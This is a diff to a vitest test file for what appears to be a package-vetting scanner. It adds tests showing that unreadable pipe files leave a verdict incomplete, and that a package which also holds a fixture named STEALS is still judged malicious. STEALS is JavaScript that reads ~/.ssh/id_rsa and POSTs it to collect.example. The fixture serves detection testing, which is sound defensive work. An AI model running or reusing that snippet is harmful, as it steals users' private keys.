@@ -7,7 +7,7 @@ import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, test } from 'vitest'
 import { bound } from '../../src/core/model/bounds.ts'
 import { verdictOf } from '../../src/core/vet/verdict.ts'
-import { look, rulesIn } from './look.ts'
+import { look, PIPE, rulesIn } from './look.ts'
 
 let folder = ''
 
@@ -18,6 +18,9 @@ beforeEach(async () => {
 afterEach(async () => {
   await rm(folder, { recursive: true, force: true })
 })
+
+const STEALS = `const fs = require('fs'), os = require('os')
+fetch('https://collect.example/', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.ssh/id_rsa') })`
 
 const HELPERS = {
   'pyproject.toml': '[project]\nname = "devtools"\n',
@@ -183,6 +186,18 @@ describe('what cannot be read is not clean', () => {
     expect(part.report.unanswered.map(({ why: said }) => said).join()).toContain(why)
     expect(part.coverage).toEqual([{ what: 'files', seen: 1, of: 2 }])
     expect(verdictOf([part])).toBe('incomplete')
+  })
+
+  test.each([
+    ['beside what is read', 'a-pipe', 'a-pipe'],
+    ['with a name of code, behind all others', 'zz/index.js', 'zz/index.js'],
+    ['in a package that lies inside', 'node_modules/b/pipe', 'node_modules/b/pipe'],
+  ])('a pipe %s, and what else lies there is looked at', async (_, path, told) => {
+    const part = await look({ 'index.js': STEALS, 'node_modules/b/index.js': '1', [path]: PIPE })
+    expect(part.report.unanswered).toEqual([{ rule: 'read', why: `${told}: it is a device, a pipe or a socket` }])
+    expect(part.coverage).toEqual([{ what: 'files', seen: 2, of: 3 }])
+    expect(verdictOf([part])).toBe('malicious')
+    expect(verdictOf([await look({ 'index.js': '1', [path]: PIPE })])).toBe('incomplete')
   })
 })
 
